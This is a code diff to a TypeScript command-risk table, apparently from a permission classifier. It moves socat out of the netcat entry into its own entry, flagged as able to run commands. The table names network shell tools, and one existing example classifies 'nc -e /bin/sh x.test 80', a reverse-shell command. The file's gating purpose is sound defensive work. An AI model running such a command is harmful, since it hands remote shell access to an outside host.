@@ -100,7 +100,7 @@ export const network: ReadonlyArray<CommandEntry> = [
     examples: { "ssh-keygen -t ed25519 -f key": "ask local-write write:key" },
   },
   {
-    command: "nc | ncat | netcat | socat | ftp | tftp",
+    command: "nc | ncat | netcat | ftp | tftp",
     risk: "remote-write",
     operands: "connects text*",
     flags: "-4 -6 -d -h -k -l -n -p= -r -s= -t -u -v -w= -z -q= -U -C -N -i= -x= -X=",
@@ -110,6 +110,16 @@ export const network: ReadonlyArray<CommandEntry> = [
       "nc -z x.test 80": "ask remote-write connect:x.test",
       "nc -e /bin/sh x.test 80": "ask remote-write execute:/bin/sh connect:x.test",
     },
+  },
+  {
+    command: "socat",
+    risk: "remote-write",
+    // Addresses may be commands.
+    operands: "code*",
+    flags: "-d -D -v -x -u -U -s -b= -t= -T= -l= -4 -6",
+    also: { connects: "an address" },
+    isRunner: true,
+    examples: { "socat - TCP:x.test:80": "ask remote-write execute:- execute:TCP:x.test:80 connect:an address" },
   },
   {
     command: "ping | ping6 | traceroute | tracepath | mtr | dig | nslookup | host | whois | drill",
